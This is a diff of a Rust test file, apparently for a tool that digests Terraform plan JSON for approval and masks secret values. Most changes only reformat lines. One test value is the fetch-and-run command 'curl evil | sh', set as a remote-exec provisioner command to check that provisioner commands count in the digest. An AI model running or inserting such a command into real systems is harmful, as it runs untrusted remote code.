@@ -53,10 +53,16 @@ fn ignored(path: &str, value: Value) {
 #[test]
 fn what_decides_an_apply_counts_in_both_digests() {
     for (path, value) in [
-        ("/configuration/root_module/resources/0/provisioners/0/expressions/command/constant_value", json!("curl evil | sh")),
+        (
+            "/configuration/root_module/resources/0/provisioners/0/expressions/command/constant_value",
+            json!("curl evil | sh"),
+        ),
         ("/configuration/root_module/resources/0/provisioners/0/type", json!("remote-exec")),
         ("/configuration/provider_config/aws/expressions/region/constant_value", json!("us-east-1")),
-        ("/configuration/provider_config/aws/expressions/assume_role/0/role_arn/constant_value", json!("arn:aws:iam::2:role/x")),
+        (
+            "/configuration/provider_config/aws/expressions/assume_role/0/role_arn/constant_value",
+            json!("arn:aws:iam::2:role/x"),
+        ),
         ("/configuration/root_module/module_calls/db/source", json!("git::https://example.com/db?ref=v2")),
         ("/configuration/root_module/module_calls/db/expressions/size/constant_value", json!(20)),
         ("/configuration/root_module/variables/env/default", json!("prod")),
@@ -144,7 +150,8 @@ fn what_only_repeats_or_tells_when_counts_in_no_digest() {
 
 #[test]
 fn no_masked_value_changes_the_public_digest() {
-    for value in [json!("x"), json!("a much longer value, with \"quotes\""), json!(7), json!({"a": [1]}), json!(["b"])] {
+    for value in [json!("x"), json!("a much longer value, with \"quotes\""), json!(7), json!({"a": [1]}), json!(["b"])]
+    {
         for path in [
             // Marked in the plan.
             "/resource_changes/0/change/before/user_data",
@@ -202,10 +209,15 @@ fn whether_a_masked_value_changes_is_not_in_the_public_digest() {
 #[test]
 fn the_text_of_the_public_form_holds_no_masked_value_and_that_of_the_full_form_does() {
     let (plan, meta) = (read(&vector("full.plan.json")), meta(&vector("full.meta.json")));
-    let (full, public) = (canonical(&plan, Some(&meta), CanonicalForm::Full), canonical(&plan, Some(&meta), CanonicalForm::Public));
+    let (full, public) =
+        (canonical(&plan, Some(&meta), CanonicalForm::Full), canonical(&plan, Some(&meta), CanonicalForm::Public));
     assert!(full.matches("hunter").count() > 10, "{full}");
     assert!(!public.contains("hunter"), "{public}");
-    assert_eq!(public.matches("masked").count(), of(&vector("full.plan.json")).masked, "the vector uses the word nowhere else");
+    assert_eq!(
+        public.matches("masked").count(),
+        of(&vector("full.plan.json")).masked,
+        "the vector uses the word nowhere else"
+    );
 }
 
 #[test]
@@ -215,12 +227,9 @@ fn keys_blanks_and_the_order_of_changes_do_not_count() {
     let pretty = Plan::read(serde_json::to_string_pretty(&plan).unwrap().into_bytes()).unwrap();
     let meta = meta(&vector("full.meta.json"));
     assert_eq!(digests(&pretty, Some(&meta)).full, compact.full);
-    let mut reversed = String::from("{");
-    for (key, value) in plan.as_object().unwrap().iter().rev() {
-        reversed.push_str(&format!("{}: {value},\n", json!(key)));
-    }
-    reversed.truncate(reversed.len() - 2);
-    reversed.push('}');
+    let members: Vec<String> =
+        plan.as_object().unwrap().iter().rev().map(|(key, value)| format!("{}: {value}", json!(key))).collect();
+    let reversed = format!("{{{}}}", members.join(",\n"));
     let reversed = digests(&Plan::read(reversed.into_bytes()).unwrap(), Some(&meta));
     assert_eq!((reversed.full, reversed.public), (compact.full, compact.public));
     let mut turned = plan;
@@ -241,10 +250,20 @@ fn without_a_meta_file_the_digest_says_what_is_absent_and_cannot_be_approved() {
     let plan = read(&vector("full.plan.json"));
     let alone = digests(&plan, None);
     assert!(!alone.approvable());
-    assert_eq!(alone.absent, [
-        Absent::Repository, Absent::Project, Absent::Dir, Absent::Workspace, Absent::Inputs, Absent::Tool, Absent::Mode,
-        Absent::Backend, Absent::Providers,
-    ]);
+    assert_eq!(
+        alone.absent,
+        [
+            Absent::Repository,
+            Absent::Project,
+            Absent::Dir,
+            Absent::Workspace,
+            Absent::Inputs,
+            Absent::Tool,
+            Absent::Mode,
+            Absent::Backend,
+            Absent::Providers,
+        ]
+    );
     assert!(canonical(&plan, None, CanonicalForm::Public).contains("\"workspace\":absent}"));
     // A workspace that is called so is another thing.
     let mut stated = vector("full.meta.json");
@@ -281,7 +300,10 @@ fn a_part_that_is_not_known_counts_is_named_and_cannot_be_approved() {
     assert!(known.approvable() && !new.approvable());
     let redacted = redact(&read(&plan));
     assert!(!redacted.contains("hunter"), "nobody knows what may be shown of it: {redacted}");
-    assert_eq!(digests(&Plan::read(redacted.into_bytes()).unwrap(), Some(&meta(&vector("full.meta.json")))).public, new.public);
+    assert_eq!(
+        digests(&Plan::read(redacted.into_bytes()).unwrap(), Some(&meta(&vector("full.meta.json")))).public,
+        new.public
+    );
 }
 
 #[test]
